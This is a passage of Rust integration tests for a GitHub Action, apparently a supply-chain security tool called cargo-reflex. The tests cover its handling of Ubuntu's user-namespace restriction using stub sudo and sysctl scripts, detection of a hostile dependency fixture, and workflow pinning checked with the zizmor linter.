        ("base", "0123456789abcdef0123456789abcdef01234567"),
    ]);
    let failed = run.failed().unwrap();
    assert_eq!(failed.code, Some(2), "{}", run.log());
    assert!(
        failed.stdout.contains("fetch-depth: 0"),
        "{}",
        failed.stdout
    );
}

/// Ubuntu 24.04's AppArmor switch, as a copy of /proc/sys the step is pointed at, on a runner
/// whose user is not root (GitHub-hosted runners run as uid 1001): `id` says so.
fn restricted_proc_sys(job: &mut Job) {
    let sys = job.path("proc-sys");
    std::fs::create_dir_all(sys.join("kernel")).unwrap();
    std::fs::write(
        sys.join("kernel/apparmor_restrict_unprivileged_userns"),
        "1\n",
    )
    .unwrap();
    job.set_env("CARGO_REFLEX_PROC_SYS", &sys.display().to_string());
    stand_in(job, "id", "echo 1001\n");
}

/// An executable `name` in the job's own bin directory (first on PATH).
fn stand_in(job: &Job, name: &str, body: &str) {
    let path = job.path("bin").join(name);
    std::fs::write(&path, format!("#!/bin/sh\n{body}")).unwrap();
    Command::new("chmod").arg("+x").arg(&path).status().unwrap();
}

#[test]
fn restricted_user_namespaces_without_permission_fail_with_what_to_do() {
    let fx = Fixture::new();
    let mut job = Job::new(&fx, &fx.clean, None);
    restricted_proc_sys(&mut job);
    let run = job.run(&[
        ("args", GATE_ARGS),
        ("build", "true"),
        ("lift-userns-restriction", "false"),
    ]);
    let failed = run.failed().unwrap_or_else(|| panic!("{}", run.log()));
    assert!(
        failed.name.starts_with("Allow user namespaces"),
        "{}",
        run.log()
    );
    assert_eq!(failed.code, Some(1));
    assert!(
        failed.stdout.contains("::error title=cargo-reflex::")
            && failed
                .stdout
                .contains("sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0"),
        "{}",
        failed.stdout
    );
    assert_eq!(run.step("Gate").outcome, "skipped");
}

#[test]
fn build_and_tests_run_in_the_monitored_sandbox_after_lifting_the_restriction() {
    let fx = Fixture::new();
    let mut job = Job::new(&fx, &fx.clean, None);
    restricted_proc_sys(&mut job);
    // The runner's sudo and sysctl: they record the call and flip the copy (this machine is
    // untouched).
    let sysctl_log = job.path("sysctl.log");
    stand_in(
        &job,
        "sudo",
        &format!(
            "echo \"sudo $*\" >> '{}'\n[ \"$1\" = -n ] && shift\nexec \"$@\"\n",
            sysctl_log.display()
        ),
    );
    stand_in(
        &job,
        "sysctl",
        &format!(
            "echo 0 > '{}'\n",
            job.path("proc-sys/kernel/apparmor_restrict_unprivileged_userns")
                .display()
        ),
    );
    let run = job.run(&[("args", GATE_ARGS), ("build", "true")]);
    assert!(run.failed().is_none(), "{}", run.log());
    let userns = run.step("Allow user namespaces");
    assert!(
        userns.stdout.contains(
            "::notice title=cargo-reflex::set kernel.apparmor_restrict_unprivileged_userns=0"
        ),
        "{}",
        run.log()
    );
    assert_eq!(
        std::fs::read_to_string(&sysctl_log).unwrap().trim(),
        "sudo -n sysctl -q -w kernel.apparmor_restrict_unprivileged_userns=0"
    );
    assert_eq!(run.out("verdict"), "passed");
    assert_eq!(run.out("build"), "passed");
    let alerts = run.out("alerts");
    assert!(Path::new(alerts).is_file(), "{}", run.log());
    assert!(
        run.summary.contains("cargo-reflex build: passed"),
        "{}",
        run.summary
    );
    let build = run.step("Build");
    assert!(
        build
            .stderr
            .contains("stage 2 (sandboxed, offline): cargo build"),
        "{}",
        build.stderr
    );
    assert!(build.stderr.contains("cargo test"), "{}", build.stderr);
}

#[test]
fn a_change_the_gate_only_reports_is_caught_by_the_monitor() {
    let fx = Fixture::new();
    let job = Job::new(&fx, &fx.hostile, None);
    let run = job.run(&[
        ("args", GATE_ARGS),
        ("build", "true"),
        ("fail-on-findings", "false"),
    ]);
    assert_eq!(run.out("verdict"), "failed");
    let failed = run.failed().unwrap_or_else(|| panic!("{}", run.log()));
    assert!(failed.name.starts_with("Build"), "{}", run.log());
    assert_eq!(failed.code, Some(1), "{}", run.log());
    assert_eq!(run.out("build"), "failed");
    let alerts = std::fs::read_to_string(run.out("alerts")).unwrap();
    let critical: Vec<Value> = alerts
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|a| a.to_string().contains("url-parse") && a.to_string().contains("critical"))
        .collect();
    assert!(!critical.is_empty(), "{alerts}");
    assert!(
        run.summary.contains("cargo-reflex build: failed"),
        "{}",
        run.summary
    );
}

#[test]
fn the_action_pins_what_it_uses_and_documents_its_interface() {
    let text = std::fs::read_to_string(repo().join("action.yml")).unwrap();
    let action = action_yml(&repo().join("action.yml"));
    assert_eq!(action["runs"]["using"].as_str(), Some("composite"));
    for (kind, key) in [("inputs", "description"), ("outputs", "description")] {
        for (name, spec) in entries(&action[kind]) {
            assert!(
                spec.as_mapping_get(key)
                    .and_then(scalar)
                    .is_some_and(|d| d.len() > 10),
                "{kind}.{name} has no description"
            );
        }
    }
    for name in ["verdict", "findings", "denied", "sarif", "alerts"] {
        assert!(
            action["outputs"].as_mapping_get(name).is_some(),
            "output {name}"
        );
    }
    // Every `uses:` is a full commit with its version in a comment, and one the init pins.
    for line in text.lines().filter(|l| l.trim_start().starts_with("uses:")) {
        let uses = line.trim_start().trim_start_matches("uses:").trim();
        assert!(
            reflex::init::PINNED_ACTIONS
                .iter()
                .any(|p| uses == p.uses()),
            "{uses}"
        );
    }
    // zizmor, the linter people run on their workflows, has nothing to say about it.
    match zizmor(&repo().join("action.yml")) {
        Some((code, out)) => assert_eq!(code, 0, "zizmor on action.yml:\n{out}"),
        None => skip_zizmor(),
    }
}

/// Runs zizmor (offline, the auditor persona: everything it can find); None when it is not
/// installed.
pub fn zizmor(path: &Path) -> Option<(i32, String)> {
    let out = Command::new("zizmor")
        .args(["--offline", "--persona=auditor", "--no-progress"])
        .arg(path)
        .output()
        .ok()?;
    Some((
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    ))
}

fn skip_zizmor() {
    let _ = std::io::Write::write_all(
        &mut std::io::stderr(),
        b"SKIPPED: zizmor is not installed (pip install zizmor); the zizmor check did not run\n",
    );
}

#[test]
fn readme_example_workflow_pins_everything_and_passes_zizmor_and_our_ci_lint() {
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let start = readme
        .find("name: supply-chain")
        .expect("the README's example workflow");
    let end = start + readme[start..].find("```").unwrap();
    // The placeholder the reader replaces with the commit they reviewed.
    let example = readme[start..end].replace("<full-commit-sha>", &"a".repeat(40));
    for line in example.lines().filter(|l| l.contains("uses: ")) {
        let uses = line.split("uses: ").nth(1).unwrap().trim();
        assert!(
            uses == format!("cargo-reflex/cargo-reflex@{} # v0.1.0", "a".repeat(40))
                || reflex::init::PINNED_ACTIONS
                    .iter()
                    .any(|p| uses == p.uses()),
            "{uses}"
        );
    }
    let project = tempfile::tempdir().unwrap();
    copy_dir(&fixture("scenarios/hardened"), project.path());
    let _ = std::fs::remove_dir_all(project.path().join(".github"));
    let file = project.path().join(".github/workflows/supply-chain.yml");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, &example).unwrap();
    let audit = json(&run(
        project.path(),
        &["audit", "--offline", "--format", "json", "--no-yanked"],
    ));
    assert_eq!(audit["ci"]["files"], 1);
    assert!(
        !codes(&audit).iter().any(|c| c.starts_with("ci-")),
        "{:#}",
        audit["findings"]
    );
    match zizmor(&file) {
        Some((code, out)) => assert_eq!(code, 0, "zizmor on the README's example:\n{out}"),
        None => skip_zizmor(),
    }
}
